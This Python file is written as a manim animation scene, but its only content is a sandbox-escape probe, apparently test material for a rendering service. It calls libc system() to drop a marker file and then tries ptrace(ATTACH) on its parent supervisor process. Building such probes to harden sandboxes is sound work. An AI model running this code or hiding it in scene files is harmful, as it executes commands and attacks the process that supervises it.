"""ctypes straight into libc: system(), then raw syscalls ptrace(ATTACH) on the supervisor and kill."""
from manim import *
import ctypes
import os

PWNED = "PWN" + "ED!"
SYS_PTRACE = 101
PTRACE_ATTACH = 16


class CtypesLibc(Scene):
    def construct(self):
        libc = ctypes.CDLL(None, use_errno=True)
        libc.system(b"touch /tmp/eigenframe-pwned-@MARK@-29")
        libc.syscall.restype = ctypes.c_long
        traced = libc.syscall(SYS_PTRACE, PTRACE_ATTACH, os.getppid(), 0, 0)
        if traced == 0:
            raise RuntimeError(f"{PWNED} ptrace attached to the supervisor")
        raise PermissionError(f"ptrace refused: {os.strerror(ctypes.get_errno())}")
